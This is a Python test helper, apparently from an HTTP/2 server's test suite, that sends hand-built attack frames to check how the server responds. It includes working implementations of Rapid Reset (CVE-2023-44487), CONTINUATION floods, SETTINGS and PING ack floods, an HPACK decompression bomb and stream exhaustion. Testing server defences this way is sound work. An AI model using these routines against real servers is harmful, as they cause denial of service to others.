#!/usr/bin/python3
"""HTTP/2 attack frames over a real socket (issue 9), for Http2FloodTest.

usage: h2_attack.py HOST PORT AUTHORITY MODE

Modes: rapid_reset, continuation, small_continuation, settings, ping, empty_data, hpack_bomb, streams, idle, bad_method.
Prints what the server did, one line: "GOAWAY <error code>", "CLOSED" (reset or EOF without GOAWAY), or for
"streams" and "hpack_bomb" a summary. Frames are built by hand (hpack encodes header blocks) so that the attack
bytes are exactly what the mode says, which a well-behaved client library would refuse to send.
"""
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def request_block(enc, authority, method="GET", extra=()):
    return enc.encode([(":method", method), (":scheme", "http"), (":path", "/"), (":authority", authority)]
                      + list(extra))


class Reader:
    """Reads server frames; remembers GOAWAY, RST_STREAM, response statuses and SETTINGS."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.resets = {}
        self.statuses = {}
        self.settings = {}
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536

    def pump(self, seconds):
        end = time.time() + seconds
        while time.time() < end and not self.closed:
            self.sock.settimeout(max(0.01, end - time.time()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            self._parse()

    def _parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif ftype == RST_STREAM:
                self.resets[stream] = int.from_bytes(payload[0:4], "big")
            elif ftype == SETTINGS and not flags & ACK:
                for i in range(0, len(payload), 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.settings[k] = v
            elif ftype == HEADERS:
                try:
                    for k, v in self.dec.decode(payload):
                        if k in (":status", b":status"):
                            self.statuses[stream] = int(v)
                except Exception:  # a header block split over CONTINUATION: the status is not needed
                    pass

    def outcome(self):
        if self.goaway is not None:
            return "GOAWAY %d" % self.goaway
        return "CLOSED" if self.closed else "OPEN"


def connect(host, port, rcvbuf=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0) )
    return s


def send_all(s, data):
    """Sends, and reports whether the server cut the connection meanwhile."""
    try:
        s.sendall(data)
        return True
    except OSError:
        return False


def main():
    host, port, authority, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    enc = hpack.Encoder()
    if mode in ("settings", "ping"):
        # A client that never reads: the server's SETTINGS/PING acks pile up until its limit cuts it off.
        s = connect(host, port, rcvbuf=4096)
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) if mode == "settings" \
            else frame(PING, 0, 0, b"12345678")
        ok = True
        for _ in range(3000):  # acks of up to 50 MB: far past what the kernel's socket buffers hold
            if not send_all(s, one * 1000):
                ok = False
                break
        r = Reader(s)
        r.pump(5)
        print(r.outcome() if ok or r.goaway is not None else "CLOSED")
        return
    s = connect(host, port)
    r = Reader(s)
    if mode == "rapid_reset":
        # CVE-2023-44487: open a stream and cancel it at once, over and over.
        sid = 1
        for _ in range(1000):
            block = request_block(enc, authority)
            if not send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
                            + frame(RST_STREAM, 0, sid, struct.pack(">I", 0x8))):
                break
            sid += 2
        r.pump(5)
        print(r.outcome())
    elif mode in ("continuation", "small_continuation"):
        # A header block that never ends: CONTINUATION frames without END_HEADERS.
        block = request_block(enc, authority)
        send_all(s, frame(HEADERS, 0, 1, block))
        piece = frame(CONTINUATION, 0, 1, b"\x00" if mode == "small_continuation" else b"\x40\x01a\x01b" * 1000)
        for _ in range(2000):
            if not send_all(s, piece * 10):
                break
        r.pump(5)
        print(r.outcome())
    elif mode == "empty_data":
        block = request_block(enc, authority, method="POST")
        send_all(s, frame(HEADERS, END_HEADERS, 1, block))
        for _ in range(1000):
            if not send_all(s, frame(DATA, 0, 1) * 10):
                break
        r.pump(5)
        print(r.outcome())
    elif mode == "hpack_bomb":
        # One 4000-byte header in the dynamic table, then a block that references it 1000 times: a few KiB on
        # the wire, about 4 MB decoded.
        big = ("x-bomb", "a" * 4000)
        first = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", authority),
                            big])
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        ref = enc.encode([big])  # now an indexed reference: one or two bytes
        bomb = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", authority)]) \
            + ref * 1000
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
        r.pump(5)
        print("%s status3=%s rst3=%s" % (r.outcome(), r.statuses.get(3), r.resets.get(3)))
    elif mode == "streams":
        # 150 streams opened at once, none finished: past SETTINGS_MAX_CONCURRENT_STREAMS they are refused.
        out = b""
        for i in range(150):
            out += frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block(enc, authority, method="POST"))
        send_all(s, out)
        r.pump(3)
        refused = sum(1 for v in r.resets.values() if v == 0x7)
        print("%s max=%s refused=%d" % (r.outcome(), r.settings.get(0x3), refused))
    elif mode == "bad_method":
        # Regression (found by WireFuzzTest): a request that ends with its HEADERS and has a method that is not a
        # token. Netty's conversion leaked the body buffer; Postern now resets the stream with PROTOCOL_ERROR.
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 1, enc.encode(
            [(":method", "G?T"), (":scheme", "http"), (":path", "/"), (":authority", authority)])))
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 3, enc.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", authority)])))
        r.pump(2)
        print("%s rst1=%s rst3=%s" % (r.outcome(), r.resets.get(1), r.resets.get(3)))
    elif mode == "idle":
        # No stream at all: the idle timeout ends the connection with GOAWAY (NO_ERROR).
        start = time.time()
        r.pump(10)
        print("%s after %.1f s" % (r.outcome(), time.time() - start))
    else:
        raise SystemExit("unknown mode " + mode)


if __name__ == "__main__":
    main()
